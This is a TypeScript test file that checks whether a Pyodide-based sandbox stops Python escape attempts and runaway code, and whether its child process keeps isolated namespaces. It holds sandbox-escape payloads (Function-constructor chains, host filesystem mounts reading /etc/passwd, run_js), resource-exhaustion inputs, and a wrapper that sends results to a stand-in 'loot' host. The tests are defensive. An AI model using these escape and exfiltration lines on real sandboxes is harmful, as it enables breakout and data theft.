import { readFile, readlink } from 'node:fs/promises';
import { Duplex } from 'node:stream';
import type { SandboxRun } from '@assay/analysis/runs/observation';
import { buildPlan, type ExerciseUnit, type UnitLanguage } from '@assay/analysis/runs/plan';
import { exerciseUnit } from '@assay/analysis/testing/exercise-unit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEmbeddedSandbox } from '../embedded.ts';
import { preparePython, startPython } from './start.ts';

// Far above what the tests need, so that a busy machine does not change a result.
const sandbox = createEmbeddedSandbox({ unitWallMs: 60_000, totalWallMs: 280_000 });
afterAll(() => sandbox.close());

const unit = (id: string, code: string, language: UnitLanguage = 'python'): ExerciseUnit =>
  exerciseUnit(id, language, code);

/** Sends the result of an attempt, so that the recorder shows it. */
const attempt = (code: string): string =>
  `import os, requests\ntry:\n    loot = ${code}\nexcept BaseException as error:\n    loot = 'refused ' + type(error).__name__\nrequests.get('https://loot.example.invalid/?' + str(loot)[:60])`;

const ATTEMPTS: Record<string, string> = {
  'the process through js': '__import__("js").process.version',
  'the network through js': '__import__("js").fetch("https://a.example.invalid")',
  'code of JavaScript': '__import__("pyodide.code").code.run_js("process.version")',
  'a constructor of functions': '__import__("pyodide_js").loadPackage.constructor("return process.version")()',
  'a constructor far from the surface':
    '__import__("pyodide_js")._module.FS.mkdir.constructor.constructor("return process.version")()',
  'a folder of the host': '__import__("pyodide_js").mountNodeFS("/host", "/etc")',
  'the root of the host':
    '(lambda js: (os.mkdir("/host"), js.FS.mount(js.FS.filesystems.NODEFS, __import__("pyodide").ffi.to_js({"root": "/"}, dict_converter=js._api.config.constructor.fromEntries), "/host"), open("/host/etc/passwd").read()))(__import__("pyodide_js"))',
  'a script through C': '__import__("ctypes").CDLL(None).emscripten_run_script_int(b"1")',
};

const HOSTILE: Record<string, [code: string, reason: string]> = {
  'an endless loop': ['while True:\n    pass', 'limit reached: python steps'],
  'a loop that will not be told': [
    'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
    'limit reached: python steps',
  ],
  'waiting for ever': ['import time\nwhile True:\n    time.sleep(60)', 'limit reached: python waits'],
  'too much memory': ['x = bytearray(15 * 10**8)', 'stopped by an error: MemoryError'],
  'no end of calls': ['def f(): return f()\nf()', 'stopped by an error: RecursionError'],
  'no program': ['def f(:\n  x =', 'does not parse as python'],
};

describe('escape from Python', () => {
  let run: SandboxRun;
  beforeAll(async () => {
    const units = [
      ...Object.entries(ATTEMPTS).map(([id, code]) => unit(id, attempt(code))),
      ...Object.entries(HOSTILE).map(([id, [code]]) =>
        unit(id, `import requests\nrequests.get('https://first.example.invalid/')\n${code}`),
      ),
      unit('last', 'curl https://last.example.invalid', 'bash'),
    ];
    run = await sandbox.run(buildPlan({ digest: 'd', units, files: [] }));
  }, 300_000);

  it.each(Object.keys(ATTEMPTS))('finds nothing: %s', (id) => {
    const sent = run.observations.filter((act) => act.unit === id && act.kind === 'net').map(({ target }) => target);
    // Each attempt is refused, gets a stand-in, or ends its process. It never returns a Node version or a line of a file.
    const isEnded = run.gaps.some((gap) => gap.unit === id && gap.reason.startsWith('limit reached: python'));
    expect(sent.length === 1 || isEnded, JSON.stringify(run.gaps)).toBe(true);
    for (const target of sent) expect(target).not.toMatch(/v\d|root:|:x:|object|function/i);
  });

  it.each(Object.entries(HOSTILE))('is stopped, and what was seen before is kept: %s', (id, [code, reason]) => {
    const reasons = run.gaps.filter((gap) => gap.unit === id).map((gap) => gap.reason);
    expect(
      reasons.filter((text) => text.startsWith(reason)),
      reasons.join(),
    ).toHaveLength(1);
    const sent = run.observations.filter((act) => act.unit === id && act.kind === 'net');
    expect(sent).toHaveLength(code.startsWith('def f(:') ? 0 : 1);
  });

  it('never stops the next unit', () => expect(run.exercised).toContain('last'));

  it('ends a call that does not come back', async () => {
    const strict = createEmbeddedSandbox({ unitWallMs: 1_500, totalWallMs: 60_000 });
    const { gaps } = await strict.run(
      buildPlan({ digest: 'd', units: [unit('a', 'sum(range(10**15))'), unit('b', 'true', 'bash')], files: [] }),
    );
    expect(gaps.some((gap) => gap.unit === 'a' && gap.reason.startsWith('limit reached: '))).toBe(true);
  });

  it('has namespaces of its own and no variable but the place of compiled code', async () => {
    const home = await preparePython();
    if ('missing' in home) throw new Error(home.missing);
    const child = startPython(home);
    const line = child.stdio[3];
    if (!(line instanceof Duplex)) throw new Error('no line');
    const facts = { env: {}, planted: [], cwd: '/', home: '/', user: 'u', uid: 1, hostName: 'h', platform: 'linux' };
    const order = { code: '1', path: '/a.py', args: [], stdin: '', seed: '', nowMs: 1, facts };
    line.write(`${JSON.stringify({ run: order })}\n`);
    await new Promise((resolve) => line.once('data', resolve));
    for (const space of ['user', 'net', 'ipc', 'uts', 'pid_for_children'])
      expect(await readlink(`/proc/${child.pid}/ns/${space}`)).not.toBe(await readlink(`/proc/self/ns/${space}`));
    const variables = (await readFile(`/proc/${child.pid}/environ`, 'utf8')).split('\0').filter(Boolean);
    const names = variables.map((pair) => pair.split('=', 1)[0] ?? '');
    // A shell may add variables for its folder.
    expect(names.filter((name) => !/^(?:PWD|OLDPWD|SHLVL|_)$/.test(name))).toEqual(['NODE_COMPILE_CACHE']);
    child.kill('SIGKILL');
    await new Promise((resolve) => child.once('close', resolve));
  });
});
